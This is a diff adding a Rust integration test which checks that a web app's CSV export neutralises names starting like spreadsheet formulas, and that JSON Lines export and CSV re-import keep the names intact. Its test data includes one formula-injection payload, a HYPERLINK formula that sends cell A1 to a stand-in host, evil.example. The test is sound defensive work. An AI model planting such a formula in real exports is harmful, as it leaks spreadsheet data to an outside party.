@@ -385,3 +385,102 @@ db_test!(a_csv_export_imports_back, seeded, |app| {
         outcome.problems
     );
 });
+
+/// Names that a spreadsheet would run as formulas, one that starts with the quote that
+/// neutralises them, and one plain. (Names are trimmed, so none starts with a tab or a
+/// carriage return: `format.rs`'s unit test covers those.)
+const FORMULAS: [&str; 7] = [
+    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+    "+1 555 0100",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=1+1",
+    "'quoted",
+    "Plain Name",
+];
+
+db_test!(
+    csv_cells_that_would_be_formulas_are_neutralised,
+    seeded,
+    |app| {
+        let key = app.key("iom", "write").await;
+        for name in FORMULAS {
+            let created = app
+                .data_as(
+                    &key,
+                    "mutation($n: String!) { createPerson(input: {name: $n}) { outcome } }",
+                    json!({ "n": name }),
+                )
+                .await;
+            assert_eq!(created["createPerson"]["outcome"], "CREATED", "{name:?}");
+        }
+        // The anonymous CSV: every name that starts like a formula (or with a quote) starts
+        // with a quote, the others are as written.
+        let (_, _, csv) = get(&app, "/export/people.csv").await;
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let at = reader
+            .headers()
+            .unwrap()
+            .iter()
+            .position(|h| h == "name")
+            .unwrap();
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let cells: Vec<String> = rows.iter().map(|r| r[at].to_string()).collect();
+        for name in FORMULAS {
+            let expected = if name == "Plain Name" {
+                name.to_string()
+            } else {
+                format!("'{name}")
+            };
+            assert!(cells.contains(&expected), "{expected:?} in {cells:?}");
+        }
+        assert!(
+            cells
+                .iter()
+                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+            "{cells:?}"
+        );
+        // JSON Lines keeps the values as they are.
+        let (_, _, jsonl) = get(&app, "/export/people.jsonl").await;
+        let names: Vec<String> = jsonl
+            .lines()
+            .map(|l| serde_json::from_str::<Value>(l).unwrap()["fields"]["name"].to_string())
+            .collect();
+        for name in FORMULAS {
+            assert!(names.contains(&json!(name).to_string()), "{name:?}");
+        }
+        // And the CSV rows of the new people import back to the names as written.
+        let mut mine = csv::Writer::from_writer(Vec::new());
+        mine.write_record(csv::Reader::from_reader(csv.as_bytes()).headers().unwrap())
+            .unwrap();
+        for row in rows.iter().filter(|r| {
+            FORMULAS
+                .iter()
+                .any(|n| &r[at] == *n || r[at] == format!("'{n}"))
+        }) {
+            mine.write_record(row).unwrap();
+        }
+        let file = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
+        std::fs::write(file.path(), mine.into_inner().unwrap()).unwrap();
+        // Into a copy with the seed, whose organisations their partner is one of.
+        let copy = TestApp::start(app.backend(), true).await.unwrap();
+        let outcome = agora::export::import::import(
+            copy.db(),
+            file.path(),
+            agora::export::stream::Format::Csv,
+            false,
+            &mut agora::export::import::Quiet,
+        )
+        .await
+        .unwrap();
+        assert!(outcome.problems.is_empty(), "{:?}", outcome.problems);
+        assert_eq!(outcome.written, FORMULAS.len() as u64);
+        let (_, _, again) = get(&copy, "/export/people.jsonl").await;
+        let again: Vec<String> = again
+            .lines()
+            .map(|l| serde_json::from_str::<Value>(l).unwrap()["fields"]["name"].to_string())
+            .collect();
+        let written: Vec<String> = FORMULAS.iter().map(|n| json!(n).to_string()).collect();
+        assert!(again.ends_with(&written), "{again:?}");
+    }
+);
